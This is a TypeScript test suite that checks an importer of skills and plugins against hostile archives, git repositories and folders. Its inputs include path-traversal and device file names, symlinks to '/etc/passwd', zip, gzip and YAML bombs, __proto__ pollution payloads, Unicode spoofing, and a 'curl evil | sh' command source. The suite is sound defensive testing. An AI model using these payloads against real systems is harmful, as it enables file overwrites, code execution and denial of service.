import { execFileSync } from 'node:child_process'
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { pathToFileURL } from 'node:url'
import { gzipSync } from 'node:zlib'
import { type Header, pack } from 'tar-stream'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { SyncRunView } from '@/contracts/sync'
import { openApp, type TestApp } from '../support/app'
import { GIT_ENV, type GitContent, gitRepository } from '../support/gitRepository'
import { importRun } from '../support/importRun'
import { MARKETPLACE, marketplaceText } from '../support/sources'
import { zipOf, type ZipEntry } from '../support/zip'

vi.setConfig({ testTimeout: 180_000, hookTimeout: 120_000 })

/** Every case runs the whole workflow, from the connector to the stored and scanned version, over a source made here. */
let app: TestApp
let scratch: string
let outside: string
let count = 0
const closing: (() => Promise<void>)[] = []

beforeAll(async () => {
  app = await openApp()
  scratch = await mkdtemp(join(tmpdir(), 'hostile-test-'))
  outside = join(scratch, 'outside')
  await mkdir(outside)
  await writeFile(join(outside, 'secret.md'), 'a secret')
})
afterAll(async () => {
  for (const close of closing) await close()
  await app.close()
  await rm(scratch, { recursive: true, force: true })
})

const skill = (name: string, more = ''): string =>
  `---\nname: ${name}\ndescription: Sorts the ${name} by weight. Use when the scale is free.\n---\n\nSort them. ${more}\n`

/** What every run has to be, whatever the source was. */
async function sound(view: SyncRunView): Promise<SyncRunView> {
  expect(['completed', 'failed']).toContain(view.status)
  if (view.status === 'failed') expect(view.error?.length).toBeGreaterThan(20)
  for (const { outcome, reason, path } of view.results) {
    if (outcome === 'failed' || outcome === 'skipped') expect(reason ?? `no reason for ${path}`).toMatch(/\w{3,}.*\./s)
  }
  const { discovered, added, updated, unchanged, skipped, failed } = view.summary
  expect(added + updated + unchanged + skipped + failed).toBe(discovered)
  expect(await readdir(outside)).toEqual(['secret.md'])
  expect(await readFile(join(outside, 'secret.md'), 'utf8')).toBe('a secret')
  expect(Object.prototype).not.toHaveProperty('polluted')
  const leaked = await app.query("select 1 from versions where files::text like '%secret%' or main_file like '%..%'")
  expect(leaked).toEqual([])
  return view
}

const honestIn = (view: SyncRunView, path = 'honest'): void => {
  expect(view.status).toBe('completed')
  expect(view.results).toContainEqual(expect.objectContaining({ kind: 'skill', path, outcome: 'added' }))
}

const resultOf = (view: SyncRunView, path: string) => view.results.find((result) => result.path === path)

async function importBytes(ending: string, bytes: Uint8Array): Promise<SyncRunView> {
  count += 1
  const file = join(scratch, `archive-${count}${ending}`)
  await writeFile(file, bytes)
  return sound(await importRun(app, `archive-${count}`, { type: 'archive', location: file }))
}

/** A second file at the root, so that the folder of the honest skill is not taken for the archive's wrapping. */
const honest = (): { name: string; content: string }[] => [
  { name: 'honest/SKILL.md', content: skill(`honest-${count}`) },
  { name: 'README.md', content: 'Things.' },
]
const importZip = (entries: ZipEntry[]): Promise<SyncRunView> => importBytes('.zip', zipOf([...honest(), ...entries]))

async function importTar(entries: (Partial<Header> & { name: string; content?: string })[]): Promise<SyncRunView> {
  const stream = pack()
  const bytes = buffer(stream)
  for (const { content, ...header } of [...honest(), ...entries]) stream.entry(header, content ?? '')
  stream.finalize()
  return importBytes('.tgz', gzipSync(await bytes))
}

async function importFolder(
  files: Record<string, string | Uint8Array>,
  links: Record<string, string> = {},
): Promise<SyncRunView> {
  count += 1
  const folder = join(scratch, `folder-${count}`)
  const all = { 'honest/SKILL.md': skill(`honest-${count}`), ...files }
  for (const [path, content] of Object.entries(all)) {
    await mkdir(dirname(join(folder, path)), { recursive: true })
    await writeFile(join(folder, path), content)
  }
  for (const [path, target] of Object.entries(links)) {
    await mkdir(dirname(join(folder, path)), { recursive: true })
    await symlink(target, join(folder, path))
  }
  return sound(await importRun(app, `folder-${count}`, { type: 'directory', location: folder }))
}

async function importGit(files: Record<string, GitContent>): Promise<SyncRunView> {
  count += 1
  const repository = await gitRepository({ 'honest/SKILL.md': skill(`honest-${count}`), ...files })
  closing.push(() => repository.close())
  return sound(await importRun(app, `git-${count}`, { type: 'git', location: pathToFileURL(repository.dir).href }))
}

const numbers = <T>(length: number, make: (index: number) => T): T[] =>
  Array.from({ length }, (_, index) => make(index))

/** A tar of so many empty files, header by header: name, mode, size, time, checksum, type, magic. */
function emptyFiles(length: number): Buffer {
  const blocks = numbers(length, (index) => {
    const header = Buffer.alloc(512)
    header.write(`f/${index}`, 0)
    header.write('0000644\0', 100)
    header.write('00000000000\0', 124)
    header.write('00000000000\0', 136)
    header.write('        0', 148)
    header.write('ustar\x0000', 257)
    const sum = header.reduce((total, byte) => total + byte, 0)
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
    return header
  })
  return Buffer.concat([...blocks, Buffer.alloc(1024)])
}

/** Names that lead out, are no names, or name devices; each has to be told, none may be written. */
const EVIL_NAMES = [
  '../outside/evil.md',
  'honest/../../outside/evil.md',
  '/etc/evil.md',
  'C:\\evil.md',
  'C:/evil.md',
  'a\\..\\..\\evil.md',
  'honest/CON',
  'honest/aux.md',
  'honest/nul.txt',
  'honest/line\nbreak.md',
  'honest/\u202egnp.exe.md',
]

describe('names', () => {
  it('zip: traversal, absolute and device names are left out and told', async () => {
    const view = await importZip([
      ...EVIL_NAMES.map((name) => ({ name, content: 'evil' })),
      { name: Buffer.from([0x68, 0xff, 0xfe, 0x2e, 0x6d, 0x64]), content: 'evil' },
      { name: 'honest/nul\0byte.md', content: 'evil' },
    ])
    honestIn(view)
    expect(view.summary.skipped).toBeGreaterThanOrEqual(EVIL_NAMES.length)
    expect(view.results.filter(({ outcome }) => outcome === 'added')).toHaveLength(1)
  })

  it('tar: the same, with links and devices', async () => {
    const view = await importTar([
      ...EVIL_NAMES.map((name) => ({ name, content: 'evil' })),
      { name: 'honest/link.md', type: 'symlink', linkname: '../../outside/secret.md' },
      { name: 'honest/absolute.md', type: 'symlink', linkname: join(outside, 'secret.md') },
      { name: 'honest/loop', type: 'symlink', linkname: 'loop' },
      { name: 'honest/hard.md', type: 'link', linkname: '/etc/passwd' },
      { name: 'honest/tty', type: 'character-device' },
      { name: 'honest/pipe', type: 'fifo' },
    ])
    honestIn(view)
    expect(view.summary.skipped).toBeGreaterThanOrEqual(EVIL_NAMES.length + 5)
  })

  it('git: submodules, links out and loops', async () => {
    const view = await importGit({
      'skills/out/SKILL.md': { link: '../../../../etc/passwd' },
      'skills/loop': { link: 'loop' },
      'skills/self': { link: '..' },
      'skills/module': { submodule: 'a'.repeat(40) },
      'skills/lfs/SKILL.md': `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 12345\n`,
    })
    honestIn(view)
    expect(resultOf(view, 'skills/out/SKILL.md')).toMatchObject({ outcome: 'skipped', kind: 'skill' })
    expect(resultOf(view, 'skills/loop')).toMatchObject({
      outcome: 'skipped',
      reason: expect.stringContaining('circle'),
    })
    expect(resultOf(view, 'skills/self')?.outcome).toBe('skipped')
    expect(resultOf(view, 'skills/module')?.reason).toContain('submodule')
    expect(resultOf(view, 'skills/lfs')).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining('Git LFS'),
    })
  })

  it('directory: links out of the tree and around in circles', async () => {
    const view = await importFolder(
      {},
      {
        'honest/secret.md': join(outside, 'secret.md'),
        'honest/up': '../../outside',
        'honest/around': '.',
        'one/two': '../one',
      },
    )
    honestIn(view)
    for (const path of ['honest/secret.md', 'honest/up', 'honest/around', 'one/two'])
      expect(resultOf(view, path), path).toMatchObject({ outcome: 'skipped' })
  })

  it('equal names, and names that differ by case or Unicode form', async () => {
    const view = await importZip([
      { name: 'honest/SKILL.md', content: 'another' },
      { name: 'honest/skill.md', content: 'another' },
      { name: 'HONEST/x.md', content: 'x' },
      { name: 'honest/caf\u00e9.md', content: 'one' },
      { name: 'honest/cafe\u0301.md', content: 'two' },
      { name: 'honest/caf\u00e9.md/inside.md', content: 'three' },
    ])
    honestIn(view)
    expect(view.summary.skipped).toBeGreaterThanOrEqual(4)
  })

  it('odd code points in the names of items never reach a screen', async () => {
    const odd = 'pay\u202elap\u200b\u{e0041}\u{e0042}\ufeff\u2066x'
    const view = await importFolder({
      'odd/SKILL.md': `---\nname: "${odd}"\ndescription: "Pays \u202eback\u{e0061}."\n---\nPay.\n`,
      'control/SKILL.md': '---\nname: "bell\\a\\0\\e[31m"\ndescription: "\\x07 rings\\0"\n---\nRing.\n',
      'surrogate/SKILL.md': '---\nname: "half\\ud800"\ndescription: x\n---\nHalf.\n',
    })
    honestIn(view)
    expect(view.summary.added).toBe(4)
    const rows = await app.query<{ name: string; description: string }>('select name, description from versions')
    // oxlint-disable-next-line no-control-regex -- control characters are what must not be there
    const hidden = /[\p{Cf}\p{Cs}\u0000-\u001f]/u
    for (const { name, description } of rows) expect(`${name} ${description}`).not.toMatch(hidden)
  })
})

describe('sizes', () => {
  it('a zip bomb ends with a reason', async () => {
    const zeros = Buffer.alloc(60 * 1024 * 1024)
    const bomb = Array.from({ length: 4 }, (_, index) => ({ name: `bomb/${index}.md`, content: zeros }))
    const view = await importZip(bomb)
    expect(view).toMatchObject({ status: 'failed', error: expect.stringContaining('times its size') })
  })

  it('a gzip bomb ends with a reason', async () => {
    const stream = pack()
    const bytes = buffer(stream)
    stream.entry({ name: 'bomb.md' }, Buffer.alloc(200 * 1024 * 1024))
    stream.finalize()
    const view = await importBytes('.tgz', gzipSync(await bytes, { level: 9 }))
    expect(view).toMatchObject({ status: 'failed', error: expect.stringMatching(/times its size|more than/) })
  })

  it('100,001 files end with a reason, as an archive and in git', async () => {
    const archive = await importBytes('.tgz', gzipSync(emptyFiles(100_001)))
    expect(archive).toMatchObject({ status: 'failed', error: expect.stringContaining('Split it') })
    const repository = await gitRepository({ 'honest/SKILL.md': skill('crowd') })
    closing.push(() => repository.close())
    const run = (input: string, ...args: string[]): string =>
      execFileSync('git', ['--git-dir', repository.dir, ...args], { env: GIT_ENV, input, encoding: 'utf8' }).trim()
    const blob = run('', 'hash-object', '-w', '--stdin')
    const tree = run(numbers(100_001, (index) => `100644 blob ${blob}\t${index}.md\n`).join(''), 'mktree')
    const identity = ['-c', 'user.name=T', '-c', 'user.email=t@example.com']
    const commit = run('', ...identity, 'commit-tree', '-m', 'crowd', tree)
    repository.git('update-ref', 'refs/heads/main', commit)
    const location = pathToFileURL(repository.dir).href
    const git = await sound(await importRun(app, 'crowd', { type: 'git', location }))
    expect(git).toMatchObject({ status: 'failed', error: expect.stringContaining('more than is taken in') })
  })

  it('5,001 files in one bundle fail that item alone', async () => {
    const files = Object.fromEntries(Array.from({ length: 5001 }, (_, index) => [`big/${index}.txt`, `${index}`]))
    const view = await importGit({ 'big/SKILL.md': skill('big'), ...files })
    honestIn(view)
    expect(resultOf(view, 'big')).toMatchObject({ outcome: 'failed', reason: expect.stringContaining('limit is 5000') })
  })

  it('50 MB of Markdown fail that item alone', async () => {
    const view = await importFolder({ 'book/SKILL.md': skill('book', 'word '.repeat(10_000_000)) })
    honestIn(view)
    expect(resultOf(view, 'book')).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining('10 MiB a file'),
    })
  })

  it('9 MB of one unbroken word are taken in within bounds', async () => {
    const view = await importFolder({
      'word/SKILL.md': skill('word', 'a'.repeat(9_000_000)),
      'marks/SKILL.md': skill('marks', '[('.repeat(1_000_000)),
      'rules/SKILL.md': `---\n${'---'.repeat(300_000)}\n${'---\n'.repeat(100_000)}`,
    })
    honestIn(view)
    expect(resultOf(view, 'word')?.outcome).toBe('added')
    expect(resultOf(view, 'marks')?.outcome).toBe('added')
    expect(resultOf(view, 'rules')).toBeDefined()
  })

  it('twenty thousand entries on one directory', async () => {
    const plugins = Array.from({ length: 20_000 }, (_, index) => ({ name: `p${index}`, source: './p' }))
    const view = await importGit({ [MARKETPLACE]: marketplaceText(plugins), 'p/skills/a/SKILL.md': skill('shared') })
    honestIn(view)
    expect(view.summary).toMatchObject({ failed: 19_500, added: 502 })
    expect(view.items).toMatchObject({ plugins: 20_000, skills: 1, standalone_skills: 1 })
  })
})

describe('contents', () => {
  it('bytes that are no text', async () => {
    const view = await importFolder({
      'zero/SKILL.md': skill('zero', 'a\0b'),
      'latin/SKILL.md': Buffer.from(skill('latin', 'caf\u00e9'), 'latin1'),
      'utf16/SKILL.md': Buffer.from(skill('wide'), 'utf16le'),
      'assets/SKILL.md': skill('assets'),
      'assets/blob.bin': Buffer.from([0, 255, 254, 0]),
    })
    honestIn(view)
    expect(resultOf(view, 'zero')).toMatchObject({ outcome: 'failed', reason: expect.stringContaining('NUL') })
    expect(resultOf(view, 'utf16')).toMatchObject({ outcome: 'failed', reason: expect.stringContaining('UTF-8') })
    expect(resultOf(view, 'latin')).toMatchObject({ outcome: 'added' })
    expect(resultOf(view, 'latin')?.warnings).toContainEqual(expect.stringContaining('not valid UTF-8'))
    expect(resultOf(view, 'assets')?.outcome).toBe('added')
  })

  it('frontmatter that explodes', async () => {
    const layers = Array.from({ length: 12 }, (_, index) =>
      index === 0
        ? 'a0: &a0 [x, x]'
        : `a${index}: &a${index} [${Array(9)
            .fill(`*a${index - 1}`)
            .join(', ')}]`,
    )
    const view = await importFolder({
      'bomb/SKILL.md': `---\nname: bomb\n${layers.join('\n')}\n---\nBoom.\n`,
      'deep/SKILL.md': `---\nname: deep\ndescription: d\nx: ${'['.repeat(30_000)}\n---\nDeep.\n`,
      'long/SKILL.md': `---\nname: long\ndescription: d\n${'k: v\n'.repeat(10_000)}---\nLong.\n`,
      'tag/SKILL.md': '---\nname: !!js/function "x"\ndescription: d\n---\nTag.\n',
      'merge/SKILL.md': '---\n<<: {polluted: 1}\nname: merge\ndescription: d\n---\nMerge.\n',
    })
    honestIn(view)
    for (const path of ['bomb', 'long', 'tag'])
      expect(resultOf(view, path), path).toMatchObject({
        outcome: 'failed',
        reason: expect.stringContaining('upstream'),
      })
    expect(resultOf(view, 'deep')).toBeDefined()
    expect(resultOf(view, 'merge')?.outcome).toBe('added')
  })

  it('__proto__ and its kin change nothing', async () => {
    const evil = '"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}'
    const view = await importFolder({
      [MARKETPLACE]: `{"name":"shop","owner":{"name":"A",${evil}},${evil},"plugins":[{"name":"p","source":"./p",${evil}},{"name":"__proto__","source":"./q"},{"name":"constructor","source":"./q"}]}`,
      'p/.claude-plugin/plugin.json': `{"name":"p",${evil},"mcpServers":{${evil},"m":{"command":"x"}},"hooks":{${evil}}}`,
      'p/skills/__proto__/SKILL.md':
        '---\nname: __proto__\ndescription: d\n__proto__: {polluted: 1}\nmetadata: {__proto__: {polluted: 1}}\n---\nDo it.\n',
      'q/commands/constructor.md': '---\ndescription: toString\n---\nDo it.\n',
      'q/agents/__proto__.md': '---\nname: hasOwnProperty\ndescription: d\ntools: [__proto__]\n---\nBe it.\n',
    })
    honestIn(view)
    expect(view.summary.failed).toBe(0)
    expect(view.summary.added).toBe(7)
    expect({}).not.toHaveProperty('polluted')
    const stored = await app.query("select 1 from versions where frontmatter::text like '%__proto__\"%:%polluted%'")
    expect(stored).toEqual([])
  })

  it('manifests nested a hundred thousand deep, or of the wrong kind', async () => {
    const deep = '['.repeat(100_000)
    const whole = await importFolder({ [MARKETPLACE]: deep })
    expect(whole).toMatchObject({ status: 'failed', error: expect.stringContaining('not valid JSON') })
    const view = await importFolder({
      [MARKETPLACE]: marketplaceText([
        { name: 'deep', source: './deep' },
        { name: 'cut', source: './cut' },
        { name: 'list', source: './list' },
        { name: 'out', source: '../outside' },
        { name: 'abs', source: outside },
        null,
        { name: ['x'] },
        { name: 'command', source: { source: 'command', command: 'curl evil | sh' } },
      ]),
      'deep/.claude-plugin/plugin.json': `{"name":"deep","x":${deep}${']'.repeat(100_000)}}`,
      'cut/.claude-plugin/plugin.json': deep,
      'list/.claude-plugin/plugin.json': '[]',
    })
    honestIn(view)
    expect(resultOf(view, 'deep')?.outcome).toBe('added')
    expect(view.summary.failed).toBeGreaterThanOrEqual(6)
    expect(view.results.find(({ path }) => path.includes('#command'))?.outcome).toMatch(/^(?:skipped|failed)$/)
  })

  it('skills inside skills inside skills', async () => {
    const files: Record<string, string> = {}
    let folder = 'nest'
    for (let level = 0; level < 60; level += 1) {
      files[`${folder}/SKILL.md`] = skill(`nest-${level}`)
      folder += '/n'
    }
    const view = await importGit(files)
    honestIn(view)
    expect(view.summary).toMatchObject({ discovered: 61, added: 61 })
  })
})

it('keeps the process within bounds', () => {
  expect(process.memoryUsage().rss).toBeLessThan(3 * 1024 ** 3)
  expect(() => execFileSync('true')).not.toThrow()
})
